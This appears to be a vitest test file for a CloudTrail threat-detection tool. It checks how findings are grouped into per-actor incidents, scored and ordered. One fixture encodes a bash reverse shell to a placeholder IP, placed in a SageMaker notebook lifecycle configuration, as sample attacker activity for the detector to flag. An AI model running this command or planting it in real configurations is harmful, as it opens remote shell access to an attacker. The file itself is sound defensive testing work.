import { describe, expect, it } from 'vitest';
import { createClassifier } from '../../../src/core/classify/index.js';
import { ACCOUNT, at, b64, keyUser, rec } from '../../../src/core/classify/rules/fixture-kit.js';
import type { CloudTrailRecord } from '../../../src/core/cloudtrail.js';
import type { Finding } from '../../../src/core/finding.js';
import { actorKeyOf, buildIncidents, SEVERITY_WEIGHT, TACTIC_WEIGHT } from '../../../src/core/incidents.js';
import { loadPlaybook } from '../../../src/playbook/load.js';

const playbook = loadPlaybook();
function classify(records: CloudTrailRecord[]): Finding[] {
  const c = createClassifier(playbook);
  for (const r of records) c.push(r);
  return c.finish();
}

const notebook = (name: string, t: string, over = {}) =>
  rec('CreateNotebookInstance', { notebookInstanceName: name, instanceType: 'ml.t3.medium', roleArn: `arn:aws:iam::${ACCOUNT}:role/service-role/Exec` }, { ...at(t), ...over });
const shell = (t: string) => rec('CreateNotebookInstanceLifecycleConfig', { notebookInstanceLifecycleConfigName: 'x', onStart: [{ content: b64('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1') }] }, at(t));

describe('buildIncidents', () => {
  const findings = classify([
    notebook('nb-1', '09:00:00'),
    shell('09:05:00'),
    notebook('nb-2', '09:10:00', { userIdentity: keyUser, sourceIPAddress: '198.51.100.9' }),
    // The same user with another key: another actor (a leaked key beside the legitimate one).
    notebook('nb-3', '09:20:00', { userIdentity: { ...keyUser, accessKeyId: 'AKIAI44QH8DHBEXAMPLE' } }),
  ]);
  const incidents = buildIncidents(findings);

  it('one incident per actor: a session by its key, a user by the access key it used', () => {
    expect(incidents.map((i) => i.actor.key).sort()).toEqual([
      `arn:aws:iam::${ACCOUNT}:role/DataScientist/mallory`,
      `arn:aws:iam::${ACCOUNT}:user/intern#AKIAI44QH8DHBEXAMPLE`,
      `arn:aws:iam::${ACCOUNT}:user/intern#AKIAIOSFODNN7EXAMPLE`,
    ]);
    for (const i of incidents) expect(i.findings).toBe(findings.filter((f) => actorKeyOf(f) === i.actor.key).length);
  });

  it('scores by severity and tactics, highest first, numbered in that order', () => {
    expect(incidents.map((i) => i.id)).toEqual(['incident-1', 'incident-2', 'incident-3']);
    const scores = incidents.map((i) => i.score);
    expect(scores).toEqual([...scores].sort((a, b) => b - a));
    const top = incidents[0]!;
    expect(top.actor.key).toBe(`arn:aws:iam::${ACCOUNT}:role/DataScientist/mallory`);
    expect(top.maxSeverity).toBe('critical');
    const mine = findings.filter((f) => actorKeyOf(f) === top.actor.key);
    expect(top.score).toBe(mine.reduce((n, f) => n + SEVERITY_WEIGHT[f.severity], 0) + TACTIC_WEIGHT * top.tactics.length);
  });

  it('lists scenarios and tactics in the order the actor reached them, and the time span', () => {
    const top = incidents[0]!;
    const ordered = [...findings].filter((f) => actorKeyOf(f) === top.actor.key).sort((a, b) => a.time.localeCompare(b.time));
    expect(top.tactics).toEqual([...new Set(ordered.flatMap((f) => f.tactics))]);
    expect(top.scenarios).toEqual([...new Set(ordered.flatMap((f) => f.scenarios))]);
    expect([top.first, top.last]).toEqual(['2026-11-27T09:00:00Z', '2026-11-27T09:05:00Z']);
    expect(top.resources).toContain('x');
    expect(top.findingIds).toEqual(ordered.map((f) => f.id));
  });

  it('counts aggregated findings in their actor\'s incident, a flood scored at most 100 per aggregate', () => {
    const key = `arn:aws:iam::${ACCOUNT}:role/DataScientist/mallory`;
    const flood = { ruleId: 'failed-call-burst', scenarios: [], principal: key, maxSeverity: 'low' as const, count: 1_000_000, first: { time: '2026-11-27T10:00:00Z', eventId: null }, last: { time: '2026-11-27T11:00:00Z', eventId: null } };
    const withFlood = buildIncidents(findings, [flood]).find((i) => i.actor.key === key)!;
    const without = incidents.find((i) => i.actor.key === key)!;
    expect(withFlood.aggregated).toBe(1_000_000);
    expect(withFlood.score - without.score).toBe(100 * SEVERITY_WEIGHT.low);
  });

  it('is the same whatever order the findings come in', () => {
    expect(buildIncidents([...findings].reverse())).toEqual(incidents);
  });
});
